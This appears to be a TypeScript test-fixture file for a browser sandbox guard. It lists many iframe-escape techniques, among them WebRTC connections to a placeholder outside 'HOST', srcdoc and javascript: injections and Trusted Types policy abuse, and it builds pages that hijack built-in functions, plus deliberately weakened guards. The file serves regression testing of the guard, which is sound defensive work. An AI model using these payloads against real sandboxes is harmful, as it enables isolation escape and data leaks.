// Programs that try to get out of the frame in which they run, after they have changed what guards it.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { root } from '@parley/scripts/build-stamps';
import { parseAst } from 'vite';

/** HOST is a host and a port outside. A call goes there by packets and by connections. */
const CALL =
  'c = new at.RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }, { urls: "turn:HOST?transport=tcp", username: "u", credential: "c" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))';
/** `PAGE` calls between browsers, `FRAME` is markup with that page. */
const HELPERS = `
  const rtc = (at) => { const ${CALL}; };
  const PAGE = '<script>const at = window, ${CALL}<' + '/script>';
  const FRAME = '<iframe srcdoc="' + PAGE.split('&').join('&amp;').split('<').join('&lt;').split('"').join('&quot;') + '"></iframe>';
  const make = document.createElement.bind(document), body = document.body, put = body.appendChild.bind(body);
  const frame = (fill) => { const f = make('iframe'); fill(f); put(f); return f; };
`;

/** Ways to a realm that nothing was taken from. */
export const ESCAPES = [
  'rtc(window)',
  'new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] }).createOffer()',
  'frame((f) => { f.srcdoc = PAGE })',
  'frame((f) => f.setAttribute("srcdoc", PAGE))',
  'frame((f) => f.setAttribute("SRCDOC", PAGE))',
  'frame((f) => f.setAttributeNS(null, "srcdoc", PAGE))',
  'frame((f) => { const a = document.createAttribute("srcdoc"); a.value = PAGE; f.setAttributeNode(a) })',
  'frame((f) => { const a = document.createAttribute("srcdoc"); f.setAttributeNode(a); a.value = PAGE })',
  'frame((f) => { const a = document.createAttribute("srcdoc"); f.setAttributeNode(a); a.nodeValue = PAGE })',
  'frame((f) => { const a = document.createAttribute("srcdoc"); f.setAttributeNode(a); a.textContent = PAGE })',
  'frame((f) => { const p = make("p"); p.setAttribute("srcdoc", PAGE); f.setAttributeNode(p.removeAttributeNode(p.getAttributeNode("srcdoc"))) })',
  'frame((f) => { const p = make("p"); p.setAttribute("srcdoc", PAGE); f.attributes.setNamedItem(p.removeAttributeNode(p.getAttributeNode("srcdoc"))) })',
  'frame((f) => { f.src = "javascript:" + JSON.stringify(PAGE) })',
  'frame((f) => { f.src = "data:text/html," + encodeURIComponent(PAGE) })',
  'frame((f) => { f.src = URL.createObjectURL(new Blob([PAGE], { type: "text/html" })) })',
  'const f = frame(() => {}); rtc(f.contentWindow)',
  'const f = frame(() => {}); rtc(f.contentDocument.defaultView)',
  'const f = frame(() => {}); setTimeout(() => rtc(f.contentWindow), 50)',
  'frame((f) => { f.name = "n" }); const a = make("a"); a.target = "n"; a.href = "javascript:" + JSON.stringify(PAGE); put(a); a.click()',
  'body.innerHTML += FRAME',
  'body.insertAdjacentHTML("beforeend", FRAME)',
  'const d = make("div"); put(d); d.outerHTML = FRAME',
  'const d = make("div"); put(d); d.setHTMLUnsafe(FRAME)',
  'const d = make("div"); put(d); d.attachShadow({ mode: "open" }).innerHTML = FRAME',
  'const d = make("div"); put(d); d.attachShadow({ mode: "open" }).setHTMLUnsafe(FRAME)',
  'const d = make("div"); put(d); d.setHTMLUnsafe("<div><template shadowrootmode=open>" + FRAME + "</template></div>")',
  'put(document.createRange().createContextualFragment(FRAME))',
  'const t = make("template"); t.innerHTML = FRAME; put(t.content)',
  'put(document.adoptNode(new DOMParser().parseFromString(FRAME, "text/html").body.firstChild))',
  'put(document.importNode(Document.parseHTMLUnsafe(FRAME).body.firstChild, true))',
  'put(document.adoptNode(new DOMParser().parseFromString("<x:iframe xmlns:x=\\"http://www.w3.org/1999/xhtml\\" srcdoc=\\"" + PAGE.split("<").join("&lt;").split("\\"").join("&quot;") + "\\"/>", "text/xml").documentElement))',
  'const d = document.implementation.createHTMLDocument(); d.body.innerHTML = FRAME; put(document.adoptNode(d.body.firstChild))',
  'const d = document.implementation.createHTMLDocument(); d.write(FRAME); put(document.adoptNode(d.body.firstChild))',
  'document.write(FRAME)',
  'Document.prototype.write.call(document, FRAME)',
  'const at = FRAME.length / 2 | 0; document.open(); document.write(FRAME.slice(0, 4)); document.write(FRAME.slice(4)); document.close()',
  'Document.prototype.open.call(document); Document.prototype.write.call(document, FRAME.slice(0, 4)); Document.prototype.write.call(document, FRAME.slice(4))',
  'Document.prototype.writeln.call(document, FRAME.slice(0, 4), FRAME.slice(4))',
  'body.contentEditable = true; body.focus(); document.execCommand("insertHTML", false, FRAME)',
  // Later: it would end the frames of the others before their packets are on the way.
  'setTimeout(() => { location.href = "javascript:" + JSON.stringify(PAGE) }, 2_000)',
  'const p = trustedTypes.createPolicy("parse", { createHTML: (t) => t }); frame((f) => { f.srcdoc = p.createHTML(PAGE) })',
  'const p = trustedTypes.createPolicy("default", { createHTML: (t) => t }); frame((f) => { f.srcdoc = PAGE })',
  'frame((f) => { f.srcdoc = trustedTypes.defaultPolicy.createHTML(PAGE) })',
  'frame((f) => { f.srcdoc = TrustedTypePolicyFactory.prototype.createPolicy.call(trustedTypes, "x", { createHTML: (t) => t }).createHTML(PAGE) })',
  'for (const one of stolen) try { frame((f) => { f.srcdoc = one.createHTML(PAGE) }) } catch {}',
  'for (const one of stolen) try { one.postMessage({ state: "pressed" }) } catch {}',
  'const s = make("script"); s.textContent = "rtc(window)"; put(s)',
  'window.open("about:blank") && rtc(window.open("about:blank"))',
  'rtc(open("javascript:1"))',
  'const o = make("object"); o.data = "data:text/html," + encodeURIComponent(PAGE); put(o)',
  'const o = make("embed"); o.src = "data:text/html," + encodeURIComponent(PAGE); put(o)',
  'documentPictureInPicture.requestWindow().then(rtc)',
  'const x = new XSLTProcessor(); rtc(x)',
  'frame((f) => { f.contentWindow; f.setAttribute("srcdoc", { toString: () => PAGE }) })',
  "new Worker(URL.createObjectURL(new Blob([\"new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }).createDataChannel('x')\"])))",
];

/** How a built-in is replaced. `stolen` keeps all that it was called with, on or by. */
export const CHANGES: Record<string, string> = {
  'says no': 'function () { keep(this, arguments); return null; }',
  'says yes': 'function () { keep(this, arguments); return true; }',
  'passes on':
    'function () { keep(this, arguments); const given = call(was, this, arguments); keep(given, []); return given; }',
  'gives the text': 'function (text) { keep(this, arguments); return text; }',
  throws: 'function () { keep(this, arguments); throw new Error("no"); }',
};

/** Guards that each lack one thing, by what is in the guard and what stands there instead, and what gets past such a one. */
export const WEAKENED: Record<string, { guard: (source: string) => string; program: string }> = {
  'asks a built-in that the program has changed': {
    guard: replacing(
      'const exec = free(RegExp.prototype.exec);',
      'const exec = (pattern, text) => pattern.exec(text);',
    ),
    program: changesFirst('exec', 'says no'),
  },
  'leaves calls between browsers': {
    guard: replacing('if (GONE.test(name)) take(window, name);', ';'),
    program: triesOnly('rtc(window)'),
  },
  'leaves what gives its own policy away': {
    guard: replacing("take(window, 'trustedTypes');", ''),
    program: triesOnly('frame((f) => { f.srcdoc = trustedTypes.defaultPolicy.createHTML(PAGE) })'),
  },
  'leaves writing in pieces': {
    guard: replacing('if (IN_PIECES.test(name)) delete prototype[name];', ';'),
    program: triesOnly(
      'Document.prototype.open.call(document); Document.prototype.write.call(document, FRAME.slice(0, 4)); Document.prototype.write.call(document, FRAME.slice(4))',
    ),
  },
  'sees no frame in markup': {
    guard: replacing('|| exec(BRINGS_FRAME, given)', ''),
    program: triesOnly('body.insertAdjacentHTML("beforeend", FRAME)'),
  },
  'sees no page within a frame': {
    guard: replacing('exec(IS_FRAMES_PAGE, sink) ||', ''),
    program: triesOnly('frame((f) => { f.srcdoc = PAGE })'),
  },
};

function replacing(part: string, other: string): (source: string) => string {
  return (source) => {
    if (source.split(part).length !== 2) throw new Error(`The guard has not once: ${part}`);
    return source.replace(part, () => other);
  };
}

/** All names that the guard touches, of globals and of members; the hooks of the language that each call may use. */
export function namesOfGuard(): string[] {
  const source = readFileSync(join(root, 'web/public/artifact/frame.js'), 'utf8');
  const names = new Set<string>([
    'Symbol.iterator',
    'Symbol.hasInstance',
    'Symbol.replace',
    'Symbol.match',
    'Symbol.species',
    'then',
    'exec',
    'test',
    'startsWith',
    'includes',
    'indexOf',
    'next',
    'call',
    'apply',
    'bind',
    'toString',
    'valueOf',
    'createHTML',
    'createScript',
  ]);
  const walk = (node: unknown): void => {
    if (Array.isArray(node)) return node.forEach(walk);
    if (typeof node !== 'object' || node === null) return;
    const { type, name, value } = node as Record<string, unknown>;
    if (type === 'Identifier' && typeof name === 'string') names.add(name);
    if (type === 'Literal' && typeof value === 'string' && /^[a-z]\w+$/i.test(value)) names.add(value);
    for (const one of Object.values(node)) walk(one);
  };
  walk(parseAst(source));
  return [...names];
}

/** A page whose first script changes everything of this name in its realm, and whose second tries to get out. */
export function changesFirst(name: string, change: string): string {
  return page(
    `globalThis.stolen = []; const call = Reflect.apply, keep = (...all) => { for (let n = 0; n < all.length; n++) if (all[n] && stolen.length < 200) stolen[stolen.length] = all[n]; };
     const holders = [globalThis]; const describe = Object.getOwnPropertyDescriptor, define = Object.defineProperty;
     for (const one of Object.getOwnPropertyNames(globalThis)) try { const it = globalThis[one]; if (typeof it === 'function') { holders.push(it); if (it.prototype) holders.push(it.prototype); } else if (it && typeof it === 'object' && it !== parent && it !== top) holders.push(it); } catch {}
     holders.push(Object.getPrototypeOf([][Symbol.iterator]()), Object.getPrototypeOf(async () => {}));
     const key = ${name.startsWith('Symbol.') ? name : JSON.stringify(name)};
     for (const holder of holders) try {
       const { value: was, get } = describe(holder, key) ?? {};
       if (was === undefined && get === undefined) continue;
       if (get) define(holder, key, { get() { const was = get, given = call(get, this, []); keep(given); return given; }, configurable: true });
       else if (typeof was === 'function') { const changed = ${CHANGES[change]}; try { changed.prototype = was.prototype } catch {} ; define(holder, key, { value: changed, configurable: true, writable: true }); }
     } catch {}`,
    true,
  );
}

/** A page that tries this alone. */
export function triesOnly(way: string): string {
  return page('globalThis.stolen = [];', false, [way]);
}

function page(first: string, isChanged: boolean, ways: readonly string[] = ESCAPES): string {
  const tries = ways.map((way) => `try { (() => { ${way} })() } catch {}`).join('\n');
  const second = `{ ${HELPERS} ${tries} setTimeout(() => { ${isChanged ? tries : ''} tellTried() }, 100); }`;
  const tell = "{ const post = parent.postMessage; globalThis.tellTried = post.bind(parent, 'tried', '*'); }";
  return `<body><p>Herons</p><script>${tell} { ${first} }</script><script>${second}</script></body>`;
}
